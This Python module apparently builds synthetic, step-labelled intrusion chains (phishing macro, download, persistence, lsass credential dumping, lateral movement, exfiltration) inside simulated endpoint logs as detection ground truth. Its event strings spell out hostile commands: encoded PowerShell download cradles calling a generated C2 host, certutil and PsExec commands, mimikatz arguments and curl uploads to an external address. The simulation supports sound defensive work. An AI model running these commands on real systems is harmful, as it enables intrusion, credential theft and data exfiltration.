"""Attack chains planted into the simulated trace, labelled step by step (the ground truth).

An :class:`AttackChain` runs on one host from a chosen time through the steps of a classic
intrusion, each step acting from the process the previous one left the attacker with (the
*foothold*), so the chain is one tree of processes linked parent -> child by GUID:

=================  =========================================================================
step               events (tool variants, drawn from the seed unless ``tools`` names one)
=================  =========================================================================
phishing_macro     outlook.exe writes a ``.docm`` attachment and starts winword.exe, which
                   loads VBE7.DLL and starts ``cmd /c powershell -enc`` (``cmd``) or
                   ``powershell -enc`` directly (``direct``)
download           ``powershell`` (DNS + 443 + file), ``certutil -urlcache`` (port 80) or
                   ``bitsadmin /transfer`` writes an implant to %TEMP%, which starts and beacons
persistence        ``reg add ...\\Run`` (``run_key``) or ``schtasks /create /sc onlogon``
credential_access  ``procdump -ma lsass.exe`` or a mimikatz-like tool: process access to the
                   host's lsass.exe (its GUID in ``object_guid``)
lateral_movement   ``psexec`` (445; services.exe on the target sets the PSEXESVC service and
                   starts it, which starts cmd.exe) or ``wmic /node`` (135; WmiPrvSE.exe on
                   the target starts powershell)
exfiltration       7z packs the data, then ``rclone`` or ``curl -T`` uploads it to an external
                   address (on the target host when the chain moved laterally)
=================  =========================================================================

Without ``phishing_macro`` the chain starts from a hidden PowerShell under explorer.exe on a
workstation, or from cmd.exe under the web/SQL server process on a server. Every event of the
chain carries ``attack_step`` (the step) and ``attack_id`` (the chain's name).
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Generator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from typing import TYPE_CHECKING

from logguard.errors import InputError
from logguard.sim.catalog import ACCOUNTS, OFFICE, POWERSHELL, SYS32, SYSTEM
from logguard.sim.enterprise import Host, public_ip
from logguard.sim.trace import (
    ACCESS,
    CONNECT,
    DNS,
    FILE,
    LOAD,
    MS,
    REGISTRY,
    SECOND,
    Proc,
    end_event,
    event,
    start_event,
    to_ns,
)

if TYPE_CHECKING:
    from logguard.sim.processes import HostState

ATTACK_STEPS = ("phishing_macro", "download", "persistence", "credential_access",
                "lateral_movement", "exfiltration")
TOOLS: dict[str, tuple[str, ...]] = {
    "phishing_macro": ("cmd", "direct"),
    "download": ("powershell", "certutil", "bitsadmin"),
    "persistence": ("run_key", "schtasks"),
    "credential_access": ("procdump", "mimikatz"),
    "lateral_movement": ("psexec", "wmic"),
    "exfiltration": ("rclone", "curl"),
}
PUBLIC = "C:\\Users\\Public"
CMD = f"{SYS32}\\cmd.exe"


@dataclass(frozen=True)
class AttackChain:
    """An intrusion to plant: on ``host`` from ``start`` (ISO text or datetime; naive = UTC).

    ``steps``: a subset of :data:`ATTACK_STEPS` (run in the canonical order);
    ``target_host``: where lateral movement goes (default: a server, else another host);
    ``tools``: step -> tool of :data:`TOOLS` (steps not named draw theirs from the seed);
    ``name``: the ``attack_id`` of its events (default ``chain-<index>``).
    """

    host: str
    start: datetime | str
    steps: tuple[str, ...] = ATTACK_STEPS
    target_host: str | None = None
    tools: Mapping[str, str] = field(default_factory=dict)
    name: str | None = None


@dataclass(frozen=True)
class Plan:
    """A checked chain: its name, start in ns, ordered steps, hosts and tools."""

    name: str
    start_ns: int
    steps: tuple[str, ...]
    host: str
    target: str | None
    tools: Mapping[str, str]


def validate_chains(chains: Sequence[AttackChain], hosts: list[Host], start_ns: int,
                    end_ns: int) -> list[Plan]:
    """Check every chain against the simulated enterprise; errors name the bad field."""
    by_name = {h.name: h for h in hosts}
    plans = []
    for index, chain in enumerate(chains):
        label = chain.name or f"chain-{index}"
        host = by_name.get(chain.host)
        if host is None:
            raise InputError(f"attack {label}: host {chain.host!r} is not simulated; "
                             f"hosts are e.g. {', '.join(list(by_name)[:4])}")
        unknown = [s for s in chain.steps if s not in ATTACK_STEPS]
        if unknown or not chain.steps:
            raise InputError(f"attack {label}: unknown step(s) {unknown or 'none given'}; "
                             f"steps are {', '.join(ATTACK_STEPS)}")
        steps = tuple(s for s in ATTACK_STEPS if s in chain.steps)
        t0 = to_ns(chain.start)
        if not start_ns <= t0 < end_ns:
            raise InputError(f"attack {label}: start {chain.start} is outside the simulated window")
        if "phishing_macro" in steps and not host.workstation:
            raise InputError(f"attack {label}: phishing_macro needs a workstation, "
                             f"{host.name} is a server")
        for step, tool in chain.tools.items():
            if step not in TOOLS or tool not in TOOLS[step]:
                raise InputError(f"attack {label}: tools[{step!r}] = {tool!r} is not one of "
                                 f"{TOOLS.get(step, ())}")
        target = None
        if "lateral_movement" in steps:
            target = chain.target_host or _default_target(host, hosts)
            if target not in by_name or target == host.name:
                raise InputError(f"attack {label}: target_host {target!r} must be another "
                                 f"simulated host")
        plans.append(Plan(label, t0, steps, host.name, target, dict(chain.tools)))
    return plans


def _default_target(host: Host, hosts: list[Host]) -> str | None:
    others = [h for h in hosts if h.name != host.name]
    servers = [h for h in others if h.role == "server"]
    return (servers or others)[0].name if others else None


class _Writer:
    """Builds the rows of one chain: the clock, the current host and the foothold."""

    def __init__(self, plan: Plan, states: dict[str, HostState], rng: random.Random,
                 seed: int) -> None:
        self.plan = plan
        self.states = states
        self.state = states[plan.host]
        self.rng = rng
        self.t = plan.start_ns
        self.step = plan.steps[0]
        self.foothold: Proc | None = None
        self.implant_path: str | None = None
        self.rows: list[tuple] = []
        word = rng.choice(("cdn", "update", "sync", "static", "telemetry"))
        self.c2_domain = f"{word}-{rng.getrandbits(24):06x}.{rng.choice(('com', 'net', 'info'))}"
        self.c2_ip = public_ip(seed, self.c2_domain)
        self.exfil_domain = f"files-{rng.getrandbits(24):06x}.io"
        self.exfil_ip = public_ip(seed, self.exfil_domain)

    def tick(self, low_ms: int = 200, high_ms: int = 4000) -> int:
        self.t += self.rng.randint(low_ms, high_ms) * MS
        return self.t

    def spawn(self, parent: Proc, image: str, command_line: str, user: str | None = None) -> Proc:
        child = self.state.new_process(self.rng, self.tick(), image, command_line,
                                       user or parent.user, parent, float("inf"))
        self.rows.append(start_event(self.t, self.state.host.name, parent, child,
                                     self.step, self.plan.name))
        return child

    def act(self, proc: Proc, kind: tuple[str, str, int], obj: str,
            obj_guid: str | None = None) -> None:
        self.rows.append(event(self.tick(), self.state.host.name, proc, kind, obj, obj_guid,
                               self.step, self.plan.name))

    def end(self, proc: Proc) -> None:
        self.rows.append(end_event(self.tick(), self.state.host.name, proc, self.step,
                                   self.plan.name))

    def encoded(self, script: str) -> str:
        """``-enc`` payload: base64 of the UTF-16LE script, as PowerShell expects."""
        return base64.b64encode(script.encode("utf-16-le")).decode("ascii")

    def temp_dir(self) -> str:
        host = self.state.host
        return (f"C:\\Users\\{host.short_user}\\AppData\\Local\\Temp" if host.workstation
                else "C:\\Windows\\Temp")

    def ensure_foothold(self) -> Proc:
        """The attacker's current process; without one, a hidden shell on the host."""
        if self.foothold is None:
            residents = self.state.residents
            stager = self.encoded(f"IEX (New-Object Net.WebClient).DownloadString('http://{self.c2_ip}/s')")
            if self.state.host.workstation:
                explorer = next(p for k, p in residents.items() if k.startswith("explorer"))
                self.foothold = self.spawn(explorer, POWERSHELL,
                                           f"powershell.exe -nop -w hidden -enc {stager}")
            else:
                server = residents[self.state.host.server_app or "services"]
                self.foothold = self.spawn(server, CMD, "cmd.exe /c whoami & ipconfig /all")
        return self.foothold


def _phishing_macro(w: _Writer, tool: str) -> None:
    state = w.state
    user = state.host.short_user
    outlook = state.live_outlook(w.t)
    if outlook is None:
        explorer = next(p for k, p in state.residents.items() if k.startswith("explorer"))
        outlook = w.spawn(explorer, f"{OFFICE}\\OUTLOOK.EXE", f"\"{OFFICE}\\OUTLOOK.EXE\"")
    lure = w.rng.choice(("Invoice", "Payment_Advice", "Shipping_Notice", "Salary_Review"))
    folder = f"{w.rng.getrandbits(32):08X}"
    attachment = (f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
                  f"Content.Outlook\\{folder}\\{lure}_{w.rng.randint(1000, 9999)}.docm")
    w.act(outlook, FILE, attachment)
    word = w.spawn(outlook, f"{OFFICE}\\WINWORD.EXE",
                   f"\"{OFFICE}\\WINWORD.EXE\" /n \"{attachment}\" /o \"\"")
    w.act(word, LOAD, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL")
    payload = w.encoded(f"IEX (New-Object Net.WebClient).DownloadString('http://{w.c2_domain}/a')")
    shell_cmd = f"powershell.exe -nop -w hidden -enc {payload}"
    parent = w.spawn(word, CMD, f"cmd.exe /c {shell_cmd}") if tool == "cmd" else word
    w.foothold = w.spawn(parent, POWERSHELL, shell_cmd)


def _download(w: _Writer, tool: str) -> None:
    foothold = w.ensure_foothold()
    name = w.rng.choice(("update", "svchost32", "OneDriveSync", "msupdate")) + ".exe"
    path = f"{w.temp_dir()}\\{name}"
    if tool == "powershell":
        downloader = foothold if foothold.name == "powershell.exe" else w.spawn(
            foothold, POWERSHELL,
            f"powershell.exe -nop -c (New-Object Net.WebClient).DownloadFile("
            f"'https://{w.c2_domain}/{name}','{path}')")
        w.act(downloader, DNS, w.c2_domain)
        w.act(downloader, CONNECT, f"{w.c2_ip}:443")
        w.act(downloader, FILE, path)
    elif tool == "certutil":
        downloader = w.spawn(foothold, f"{SYS32}\\certutil.exe",
                             f"certutil.exe -urlcache -split -f http://{w.c2_ip}/{name} {path}")
        w.act(downloader, CONNECT, f"{w.c2_ip}:80")
        w.act(downloader, FILE, path)
        w.end(downloader)
    else:
        downloader = w.spawn(foothold, f"{SYS32}\\bitsadmin.exe",
                             f"bitsadmin.exe /transfer upd /download /priority high "
                             f"https://{w.c2_domain}/{name} {path}")
        w.act(downloader, DNS, w.c2_domain)
        w.act(downloader, CONNECT, f"{w.c2_ip}:443")
        w.act(downloader, FILE, path)
        w.end(downloader)
    implant = w.spawn(foothold, path, f"\"{path}\"")
    w.act(implant, DNS, w.c2_domain)
    w.act(implant, CONNECT, f"{w.c2_ip}:443")
    w.foothold, w.implant_path = implant, path


def _persistence(w: _Writer, tool: str) -> None:
    foothold = w.ensure_foothold()
    target = w.implant_path or foothold.image
    value = w.rng.choice(("OneDriveUpdate", "SecurityHealth", "AdobeSync"))
    if tool == "run_key":
        reg = w.spawn(foothold, f"{SYS32}\\reg.exe",
                      f"reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
                      f"/v {value} /t REG_SZ /d \"{target}\" /f")
        w.act(reg, REGISTRY,
              f"HKU\\{w.state.host.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{value}")
        w.end(reg)
    else:
        task = f"{value}Task"
        tasks = w.spawn(foothold, f"{SYS32}\\schtasks.exe",
                        f"schtasks.exe /create /sc onlogon /tn {task} /tr \"{target}\" "
                        "/rl highest /f")
        w.act(tasks, FILE, f"{SYS32}\\Tasks\\{task}")
        w.act(tasks, REGISTRY, "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\"
                               f"TaskCache\\Tree\\{task}\\Id")
        w.end(tasks)


def _credential_access(w: _Writer, tool: str) -> None:
    foothold = w.ensure_foothold()
    lsass = w.state.residents["lsass"]
    if tool == "procdump":
        tool_path, dump = f"{PUBLIC}\\procdump64.exe", f"{PUBLIC}\\lsass.dmp"
        w.act(foothold, FILE, tool_path)
        dumper = w.spawn(foothold, tool_path, f"procdump64.exe -accepteula -ma lsass.exe {dump}")
        w.act(dumper, ACCESS, lsass.image, lsass.guid)
        w.act(dumper, FILE, dump)
    else:
        tool_path = f"{PUBLIC}\\mm.exe"
        w.act(foothold, FILE, tool_path)
        dumper = w.spawn(foothold, tool_path,
                         f"\"{tool_path}\" \"privilege::debug\" \"sekurlsa::logonpasswords\" exit")
        w.act(dumper, ACCESS, lsass.image, lsass.guid)
        w.act(dumper, ACCESS, lsass.image, lsass.guid)
    w.end(dumper)


def _lateral_movement(w: _Writer, tool: str) -> None:
    foothold = w.ensure_foothold()
    assert w.plan.target is not None  # validate_chains guarantees it
    target = w.states[w.plan.target]
    stager = w.encoded(f"IEX (New-Object Net.WebClient).DownloadString('http://{w.c2_ip}/b')")
    if tool == "psexec":
        short = target.host.name.split(".", 1)[0]
        mover = w.spawn(foothold, f"{PUBLIC}\\PsExec64.exe",
                        f"PsExec64.exe \\\\{short} -accepteula -s cmd.exe /c "
                        f"\"powershell -nop -w hidden -enc {stager}\"")
        w.act(mover, CONNECT, f"{target.host.ip}:445")
        w.state = target
        services = target.residents["services"]
        w.act(services, REGISTRY, "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath")
        service = w.spawn(services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
                          ACCOUNTS[SYSTEM])
        w.foothold = w.spawn(service, CMD,
                             f"cmd.exe /c \"powershell -nop -w hidden -enc {stager}\"")
    else:
        mover = w.spawn(foothold, f"{SYS32}\\wbem\\WMIC.exe",
                        f"wmic /node:{target.host.ip} process call create "
                        f"\"powershell.exe -nop -w hidden -enc {stager}\"")
        w.act(mover, CONNECT, f"{target.host.ip}:135")
        victim = foothold.user
        w.state = target
        w.foothold = w.spawn(target.residents["wmiprvse"], POWERSHELL,
                             f"powershell.exe -nop -w hidden -enc {stager}", victim)
    w.act(w.foothold, CONNECT, f"{w.c2_ip}:443")


def _exfiltration(w: _Writer, tool: str) -> None:
    foothold = w.ensure_foothold()
    host = w.state.host
    data = f"C:\\Users\\{host.short_user}\\Documents" if host.workstation else "D:\\SQLData"
    archive = f"{PUBLIC}\\{w.rng.choice(('backup', 'data', 'archive'))}.7z"
    packer = w.spawn(foothold, "C:\\Program Files\\7-Zip\\7z.exe",
                     f"7z.exe a -mx9 -p{w.rng.getrandbits(32):08x} {archive} \"{data}\\*\"")
    w.act(packer, FILE, archive)
    w.end(packer)
    if tool == "rclone":
        uploader = w.spawn(foothold, f"{PUBLIC}\\rclone.exe",
                           f"rclone.exe copy {archive} remote:drop --config {PUBLIC}\\rclone.conf")
        w.act(uploader, DNS, w.exfil_domain)
    else:
        uploader = w.spawn(foothold, f"{SYS32}\\curl.exe",
                           f"curl.exe -k -T {archive} https://{w.exfil_ip}/upload")
    w.act(uploader, CONNECT, f"{w.exfil_ip}:443")
    w.end(uploader)


_STEPS: dict[str, Callable[[_Writer, str], None]] = {
    "phishing_macro": _phishing_macro,
    "download": _download,
    "persistence": _persistence,
    "credential_access": _credential_access,
    "lateral_movement": _lateral_movement,
    "exfiltration": _exfiltration,
}


def chain_events(plan: Plan, states: dict[str, HostState], rng: random.Random,
                 seed: int) -> Generator[tuple[int, tuple | None, None], None, None]:
    """The chain's rows in time order, in the process-generator protocol of the simulator.

    It first wakes at the chain's start without a row, so that the hosts' state (which
    Outlook is running) is read at that time; each step then writes its rows, and the steps
    are separated by a dwell of 30 s to 10 min.
    """
    yield plan.start_ns, None, None
    writer = _Writer(plan, states, rng, seed)
    for step in plan.steps:
        writer.step = step
        _STEPS[step](writer, plan.tools.get(step) or rng.choice(TOOLS[step]))
        for row in writer.rows:
            yield row[0], row, None
        writer.rows = []
        writer.t += rng.randint(30, 600) * SECOND

